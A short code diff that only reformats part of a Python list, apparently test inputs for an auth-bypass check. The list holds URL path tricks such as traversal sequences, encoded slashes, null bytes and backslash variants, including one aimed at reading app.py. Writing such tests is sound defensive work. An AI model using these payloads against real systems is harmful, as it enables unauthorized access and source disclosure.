@@ -129,7 +129,14 @@ TRICKS = [
     *("/api/users%2f", "/%2e/api/users", "/signin/../api/users", "/signin/%2e%2e/api/users", "/healthz/../api/users"),
     *("/static/../api/users", "/signin%2f..%2fapi%2fusers", "/signin;/api/users", "/healthz/", "/healthz%00"),
     *("/signin/", "/Signin", "//signin", "/signin//", "/api/users%00", "/api/users%20", "/\\api/users", "/api\\users"),
-    *("/signin/code", "/signin/code/", "/openrosa/../api/users", "/static/%2e%2e/%2e%2e/app.py", "/metrics/", "/%61pi/me"),
+    *(
+        "/signin/code",
+        "/signin/code/",
+        "/openrosa/../api/users",
+        "/static/%2e%2e/%2e%2e/app.py",
+        "/metrics/",
+        "/%61pi/me",
+    ),
 ]
 
 
